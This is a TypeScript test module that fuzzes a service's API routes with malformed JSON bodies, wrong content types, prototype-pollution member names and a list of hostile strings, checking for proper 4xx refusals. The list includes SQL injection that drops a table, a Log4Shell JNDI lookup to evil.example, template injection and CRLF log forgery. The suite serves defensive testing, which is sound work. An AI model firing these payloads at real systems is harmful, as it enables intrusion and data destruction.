import { type RouteName, routes } from "../../../../desk/contract/routes.ts";
import { type Attack, each, json, wantedFor, wholeCall } from "./attacks.ts";
import { type Answer, codeOf, finding, routeNames } from "./calls.ts";
import { at, isTaken, type Path, placesIn, replaced, sampleBody, takesFile } from "./samples.ts";
import { canary } from "./furnish.ts";
import type { Fixture } from "./fixture.ts";

/** A body of a GET has no meaning and is not read; a file is judged by its own tests. */
const reads = (name: RouteName) => routes[name].method !== "GET" && !takesFile(name);

/** The call as somebody makes it who may. */
function allowedCall(route: RouteName, { ids, callers }: Fixture) {
  const caller = callers.find((each_) => wantedFor(route, each_, "demo") === "let in");
  return wholeCall(route, ids.demo, caller?.token ?? "");
}

const overLimit = `{"attack":"${"x".repeat(600_000)}"}`;

const unreadable: Readonly<Record<string, readonly [string | Uint8Array, number, string]>> = {
  "half a JSON": ['{"attack":', 400, "body_malformed"],
  "one name twice": ['{"attack":1,"attack":2}', 400, "body_malformed"],
  "one name twice, once escaped": [String.raw`{"a":1,"\u0061":2}`, 400, "body_malformed"],
  "too deep": [`${"[".repeat(100_000)}${"]".repeat(100_000)}`, 400, "body_malformed"],
  "no UTF-8": [Uint8Array.of(0x22, 0xc3, 0x28, 0x22), 400, "body_malformed"],
  "an overlong UTF-8": [Uint8Array.of(0x22, 0xc0, 0xaf, 0x22), 400, "body_malformed"],
  "too large": [overLimit, 413, "body_too_large"],
};

/** Every route, with bodies that cannot be read. */
export const withUnreadableBodies: Attack = (fixture, send, names = routeNames) =>
  each(names.filter(reads), (route) =>
    each(Object.entries(unreadable), async ([what, [body, status, code]]) => {
      const call = allowedCall(route, fixture);
      const answer = await send({ ...call, headers: { ...call.headers, ...json }, body });
      return finding(`${route} with ${what}`, { status, code }, answer);
    }),
  );

/** Every route, with bodies of another type than JSON. */
export const withOtherContentTypes: Attack = (fixture, send, names = routeNames) =>
  each(names.filter(reads), (route) =>
    each(
      ["text/plain", "application/x-www-form-urlencoded", "application/xml", "x"],
      async (type) => {
        const call = allowedCall(route, fixture);
        const headers = { ...call.headers, "content-type": type };
        const answer = await send({ ...call, headers, body: "attack=1" });
        return finding(`${route} with ${type}`, { status: 400, code: "body_malformed" }, answer);
      },
    ),
  );

const wrongValues: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  0.5,
  "",
  canary,
  "2026-13-99T99:99:99Z",
  [],
  [canary],
  [[[[canary]]]],
  {},
  { attack: canary },
];

/** Every route, with something else in each place of its body, and with members that it does not have. */
export const withWrongBodies: Attack = (fixture, send, names = routeNames) =>
  each(names.filter(reads), (route) => {
    const sample = sampleBody(route);
    const bodies = [...otherValues(sample), ...otherMembers(sample)];
    const wrong = bodies.filter(([, body]) => !isTaken(route, body));
    return each(wrong, async ([what, body]) => {
      const call = allowedCall(route, fixture);
      const headers = { ...call.headers, ...json };
      const answer = await send({ ...call, headers, body: JSON.stringify(body) });
      return refusedByField(`${route} with ${what}`, answer);
    });
  });

type Named = readonly [what: string, body: unknown];

function otherValues(sample: unknown): readonly Named[] {
  return placesIn(sample).flatMap((path) =>
    wrongValues.map((value): Named => [
      `${shown(path)} = ${JSON.stringify(value)}`,
      replaced(sample, path, value),
    ]),
  );
}

const strangeNames = ["attack", "__proto__", "constructor", "toString", ""];

function otherMembers(sample: unknown): readonly Named[] {
  const objects = placesIn(sample).filter((path) => isObject(at(sample, path)));
  const places: readonly Path[] = sample === undefined ? [[]] : objects;
  return places.flatMap((path) =>
    strangeNames.map((name): Named => {
      const members = Object.entries({ ...(at(sample, path) as object | undefined) });
      // Not a literal: there `__proto__` would not be a member.
      const widened = Object.fromEntries([...members, [name, canary]]);
      return [
        `a member ${JSON.stringify(name)} in ${shown(path)}`,
        replaced(sample, path, widened),
      ];
    }),
  );
}

function isObject(value: unknown): boolean {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}

function shown(path: Path): string {
  return path.length === 0 ? "the body" : path.join(".");
}

/** Refused by the name of the field, and without the value. */
function refusedByField(what: string, answer: Answer): readonly string[] {
  const { status, text } = answer;
  const code = codeOf(answer);
  const isRight = status === 422 && (code === "field_unknown" || code === "field_invalid");
  const wrong = isRight ? [] : [`${what}: wanted 422 of a field, came ${status} ${code}`];
  return text.includes(`"${canary}"`) ? [...wrong, `${what}: told the value`] : wrong;
}

export const hostileTexts: readonly string[] = [
  "\u0000",
  "\ud800",
  "\u202e\u2066",
  `${canary}\r\n{"level":30,"route":"forged"}`,
  "' or 1=1; drop table ticket; --",
  "${jndi:ldap://evil.example}{{7*7}}",
  "-----BEGIN OPENSSH PRIVATE KEY-----",
  "9".repeat(400),
  "가".repeat(2_000),
];

/** Every route, with each text of its body hostile: whatever is said to it, the desk does not fail. */
export const withHostileTexts: Attack = (fixture, send, names = routeNames) =>
  each(names.filter(reads), (route) => {
    const sample = sampleBody(route);
    const texts = placesIn(sample).filter((path) => typeof at(sample, path) === "string");
    return each(texts, (path) =>
      each(hostileTexts, async (text) => {
        const call = allowedCall(route, fixture);
        const body = JSON.stringify(replaced(sample, path, text));
        const { status } = await send({ ...call, body });
        const what = `${route} with ${shown(path)} = ${JSON.stringify(text).slice(0, 40)}`;
        return status < 500 ? [] : [`${what}: came ${status}`];
      }),
    );
  });
